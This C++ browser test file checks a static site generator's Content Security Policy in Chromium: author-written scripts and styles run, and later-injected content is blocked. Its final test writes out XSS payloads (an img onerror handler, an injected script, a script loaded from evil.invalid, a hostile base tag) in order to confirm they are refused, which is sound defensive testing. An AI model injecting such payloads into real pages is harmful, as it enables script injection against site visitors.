// The content security policy of pages in a real Chromium: every kind of page of our own site works
// under it, what a trusted author wrote runs, what was put in afterwards does not.
#include <doctest/doctest.h>

#include <optional>

#include "base/disk.h"
#include "base/hash.h"
#include "base/process.h"
#include "served_site.h"
#include "support/browser.h"
#include "work_directory.h"

using namespace kbuild;

namespace {

void build_under_policy(const std::string& config, const std::string& directory) {
  auto built = base::run_process({.arguments = {KBUILD_PROGRAM, "--config", config, "--out",
                                                directory + "/site", "-q", "build"},
                                  .directory = directory,
                                  .timeout = 120});
  REQUIRE(built);
  INFO(built->errors);
  REQUIRE(built->exit_code == 0);
}

void no_violation(test::Browser& browser) {
  for (const std::string& error : browser.console_errors()) FAIL_CHECK(error);
}

}  // namespace

TEST_CASE("SHA-256 in base64 is what browsers compare with") {
  CHECK(base::sha256_base64("") == "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=");
  CHECK(base::sha256_base64("alert(1)") == "bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=");
}

TEST_CASE(
    "no page of our own site breaks its policy, in light and dark, from a server and a disk") {
  auto light = test::Browser::start();
  auto dark = test::Browser::start({.dark = true});
  if (!light || !dark) return;
  test::WorkDirectory work;
  build_under_policy(KBUILD_ROOT "/kbuild.yml", work.path);
  test::ServedDirectory server(work.path + "/site");
  // It is shown at any address, and names its files by the whole address of the site.
  auto missing = base::make_real_disk()->read(work.path + "/site/404.html");
  REQUIRE(missing);
  CHECK(missing->find("script-src 'self' https://kbuild.example.org;") != missing->npos);
  const std::string disk = "file://" + work.path + "/site/";
  for (const char* page : {"", "fi/", "pytorch/csc/", "matrix/", "matrix/pytorch/",
                           "search/?q=slurm", "kbuild/dialects/", "kbuild/theming/", "tags/"}) {
    CAPTURE(page);
    for (auto* browser : {&*light, &*dark}) {
      browser->open(server.address + page);
      // A rule of the style sheet holds, and the scripts have run.
      CHECK(browser->script("return getComputedStyle(document.querySelector('.kb-header')).display"
                            " !== 'inline' && document.documentElement.classList.contains('js')") ==
            true);
      no_violation(*browser);
    }
  }
  for (const char* page : {"index.html", "matrix/pytorch/index.html", "pytorch/csc/index.html"}) {
    CAPTURE(page);
    light->open(disk + page);
    CHECK(light->script("return document.documentElement.classList.contains('js')") == true);
    light->click("#kb-search-input");
    light->type("#kb-search-input", "pytorch");
    CHECK(light->wait_for("document.querySelectorAll('#kb-search-list li').length > 0"));
    no_violation(*light);
  }
}

TEST_CASE("what a trusted author wrote runs, and nothing that came later") {
  auto browser = test::Browser::start();
  if (!browser) return;
  test::WorkDirectory work;
  auto disk = base::make_real_disk();
  REQUIRE(disk->write(work.path + "/kbuild.yml", "sources: [{path: docs, lang: en}]\n"));
  REQUIRE(disk->write(work.path + "/docs/frame.html", "<!doctype html><p>framed</p>\n"));
  REQUIRE(disk->write(
      work.path + "/docs/index.md",
      "# Page\n\n<style>#styled { color: rgb(1, 2, 3) }</style>\n\n<p id=\"styled\">x</p>\n\n"
      "<p id=\"own\" style=\"color: rgb(4, 5, 6)\">x</p>\n\n"
      "<button id=\"press\" onclick=\"window.pressed = 1\">x</button>\n\n"
      "<iframe src=\"frame.html\"></iframe>\n\n"
      "<script>\nwindow.ran = 1;\r\nwindow.text = \"ä < b\";\n</script>\n\n"
      "| a |\n|--:|\n| b |\n\n$\\mathbf{x}$\n"));
  build_under_policy("kbuild.yml", work.path);
  test::ServedDirectory server(work.path + "/site");
  browser->open(server.address);
  CHECK(browser->script("return window.ran") == 1);
  auto colour = [&](const std::string& id) {
    return browser->script("return getComputedStyle(document.getElementById('" + id + "')).color");
  };
  CHECK(colour("styled") == "rgb(1, 2, 3)");
  CHECK(colour("own") == "rgb(4, 5, 6)");
  browser->click("#press");
  CHECK(browser->script("return window.pressed") == 1);
  CHECK(
      browser->wait_for("frames.length === 1 && frames[0].document.body.innerText.trim() === "
                        "'framed'"));
  no_violation(*browser);
  // As an attacker would who found a way to write into the page.
  browser->script(
      "const s = document.createElement('script'); s.textContent = 'window.evil = 1';"
      "document.body.append(s);"
      "const b = document.createElement('div'); b.innerHTML = "
      "'<img src=x onerror=\"window.evil = 2\"><p id=later style=\"color: rgb(7, 8, 9)\">x</p>';"
      "document.body.append(b);"
      "const o = document.createElement('script'); o.src = 'https://evil.invalid/x.js';"
      "o.onerror = () => { window.refused = 1 }; document.body.append(o);"
      "const l = document.createElement('base'); l.href = 'https://evil.invalid/';"
      "document.head.append(l);");
  CHECK(browser->wait_for("window.refused === 1"));
  CHECK(browser->script("return window.evil || 0") == 0);
  CHECK(colour("later") != "rgb(7, 8, 9)");
  CHECK(browser->script("return document.baseURI.includes('evil')") == false);
  CHECK(browser->console_errors().size() >= 3);
}
